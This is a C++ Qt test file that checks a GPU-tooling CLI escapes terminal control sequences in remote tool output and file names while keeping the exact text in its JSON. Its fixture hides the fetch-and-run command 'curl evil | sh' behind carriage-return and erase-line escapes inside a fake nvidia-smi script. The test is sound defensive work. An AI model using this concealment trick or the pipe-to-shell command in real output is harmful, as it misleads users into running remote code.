// SPDX-License-Identifier: GPL-3.0-or-later
// SPDX-FileCopyrightText: 2026 KernelForge authors
// A server whose tools print terminal control sequences (a carriage return and an erase-line
// that hide what came before, a bell, a window title), read back through the real CLI: every
// command shows them as escapes (the one output filter, core/util/terminaltext.h), its JSON
// keeps the exact text. `facts`, `timeline`, `gpu processes` and `verify` against a demo sshd
// whose nvidia-smi is hostile and whose build folder holds a hostile file name.
#include "tests/support/testsupport.h"

#include <QDir>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QTemporaryDir>
#include <QtTest>

#include <functional>

namespace {

// What the hostile tools print: hides "curl evil | sh" behind a harmless-looking rest.
const QByteArray kHidden = "curl evil | sh\r\x1b[2K\x07\x1b]0;owned\x07pip install -e .";
const QByteArray kShown = "curl evil | sh\\r\\x1b[2K\\x07\\x1b]0;owned\\x07pip install -e .";

// nvidia-smi answering the facts script and the process poll, with kHidden in the GPU's name
// and a process' name (pid 4242: ps lists no such process, so the table shows that name).
QByteArray hostileNvidiaSmi()
{
    const QByteArray name = "NVIDIA H200 " + kHidden;
    return "#!/bin/sh\n"
           "case \"$*\" in\n"
           "-L) printf 'GPU 0: %s (UUID: GPU-0)\\n' \""
        + name
        + "\";;\n"
          "*--query-gpu=index,uuid*) echo '0, GPU-0';;\n"
          "*--query-gpu=index,compute_cap*) echo '0, 9.0, 143771';;\n"
          "*--query-gpu=driver_version*) printf '580.159.04 %s\\n' \""
        + kHidden
        + "\";;\n"
          "*--query-compute-apps*) printf '4242, %s, 100, GPU-0\\n' \""
        + kHidden
        + "\";;\n"
          "*pmon*) printf '# gpu pid type sm mem command\\n# Idx # C/G %% %% name\\n    0 4242 C 50 10 x\\n';;\n"
          "*) exit 0;;\n"
          "esac\n";
}

// Some string in the JSON (every line of it) is exactly, or holds, `text`.
bool jsonHolds(const QByteArray& jsonLines, const QString& text)
{
    const std::function<bool(const QJsonValue&)> holds = [&](const QJsonValue& v) {
        if (v.isString())
            return v.toString().contains(text);
        if (v.isArray())
            return std::any_of(v.toArray().begin(), v.toArray().end(), [&](const QJsonValue& x) { return holds(x); });
        if (v.isObject()) {
            const QJsonObject o = v.toObject();
            return std::any_of(o.begin(), o.end(), [&](const QJsonValue& x) { return holds(x); });
        }
        return false;
    };
    for (const QByteArray& line : jsonLines.split('\n')) {
        const QJsonDocument d = QJsonDocument::fromJson(line);
        if (holds(d.isArray() ? QJsonValue(d.array()) : QJsonValue(d.object())))
            return true;
    }
    // An indented document is one JSON value over many lines.
    const QJsonDocument whole = QJsonDocument::fromJson(jsonLines);
    return !whole.isNull() && holds(whole.isArray() ? QJsonValue(whole.array()) : QJsonValue(whole.object()));
}

bool hasControlBytes(const QByteArray& text)
{
    return std::any_of(text.cbegin(), text.cend(), [](char c) { return (uchar(c) < 0x20 && c != '\n') || c == 0x7f; });
}

} // namespace

class TestCliRemoteText : public QObject
{
    Q_OBJECT

    QTemporaryDir m_home;
    QStringList env() const
    {
        return { QStringLiteral("HOME=") + m_home.path(), QStringLiteral("XDG_CONFIG_HOME="),
            QStringLiteral("XDG_STATE_HOME="), QStringLiteral("XDG_CACHE_HOME="), QStringLiteral("XDG_DATA_HOME=") };
    }
    kf::test::ProcessOutput cli(const QStringList& args) const { return kf::test::runCli(args, 120000, env()); }
    static QByteArray both(const kf::test::ProcessOutput& p) { return p.out + "\n--- stderr:\n" + p.err; }

private Q_SLOTS:
    void initTestCase() { QVERIFY(m_home.isValid()); }

    void toolOutputIsEscapedAndJsonExact()
    {
        KF_START_DEMO_HOST(demo);
        const QString smi = demo.binDir() + QStringLiteral("/nvidia-smi");
        QFile::remove(smi);
        QVERIFY(kf::test::writeFile(smi, hostileNvidiaSmi()));
        QVERIFY(QFile::setPermissions(smi,
            QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner | QFile::ExeOther | QFile::ReadOther
                | QFile::ExeGroup | QFile::ReadGroup));
        const QStringList target = kf::test::cliSshTarget(demo);

        // facts: the GPU's name as the hostile tool printed it, escaped; JSON exact.
        auto facts = cli(QStringList { QStringLiteral("facts") } + target);
        QVERIFY2(facts.exitCode == 0, both(facts).constData());
        QVERIFY2(facts.out.contains(kShown), facts.out.constData());
        QVERIFY2(!hasControlBytes(facts.out + facts.err), both(facts).constData());
        auto factsJson = cli(QStringList { QStringLiteral("facts"), QStringLiteral("--json") } + target);
        QVERIFY2(factsJson.exitCode == 0, both(factsJson).constData());
        QVERIFY2(jsonHolds(factsJson.out, QString::fromUtf8(kHidden)), factsJson.out.constData());

        // timeline: the facts event names the driver version; nothing connects.
        auto timeline = cli(QStringList { QStringLiteral("timeline") } + target);
        QVERIFY2(timeline.exitCode == 0, both(timeline).constData());
        // (the facts script drops carriage returns from tool output: the rest is there, escaped)
        QVERIFY2(timeline.out.contains("curl evil | sh\\x1b[2K\\x07\\x1b]0;owned\\x07pip install -e ."),
            timeline.out.constData());
        QVERIFY2(!hasControlBytes(timeline.out + timeline.err), both(timeline).constData());

        // gpu processes: the process' name; JSON keeps it exactly.
        auto procs = cli(QStringList { QStringLiteral("gpu"), QStringLiteral("processes") } + target);
        QVERIFY2(procs.exitCode == 0, both(procs).constData());
        QVERIFY2(procs.out.contains(kShown), procs.out.constData());
        QVERIFY2(!hasControlBytes(procs.out + procs.err), both(procs).constData());
        auto procsJson = cli(
            QStringList { QStringLiteral("gpu"), QStringLiteral("processes"), QStringLiteral("--json") } + target);
        const QJsonArray rows = QJsonDocument::fromJson(procsJson.out).object().value("processes").toArray();
        QCOMPARE(rows.size(), 1);
        QCOMPARE(rows.first().toObject().value("name").toString(), QString::fromUtf8(kHidden));

        // verify: a library file named by whoever can write the build folder.
        const QString dir = demo.homeDir() + QStringLiteral("/hostile-build");
        QVERIFY(QDir().mkpath(dir));
        const QString library = dir + u'/' + QString::fromUtf8("lib" + kHidden + ".so");
        QVERIFY(kf::test::writeFile(library, "not an ELF file"));
        auto verify = cli(QStringList { QStringLiteral("verify"), QStringLiteral("--dir"), dir } + target);
        QVERIFY2(verify.out.contains(QByteArray("lib" + kShown + ".so")), both(verify).constData());
        QVERIFY2(!hasControlBytes(verify.out + verify.err), both(verify).constData());
        auto verifyJson = cli(
            QStringList { QStringLiteral("verify"), QStringLiteral("--dir"), dir, QStringLiteral("--json") } + target);
        QVERIFY2(jsonHolds(verifyJson.out, QString::fromUtf8(kHidden)), verifyJson.out.constData());
    }
};

QTEST_GUILESS_MAIN(TestCliRemoteText)
#include "tst_cli_remotetext.moc"
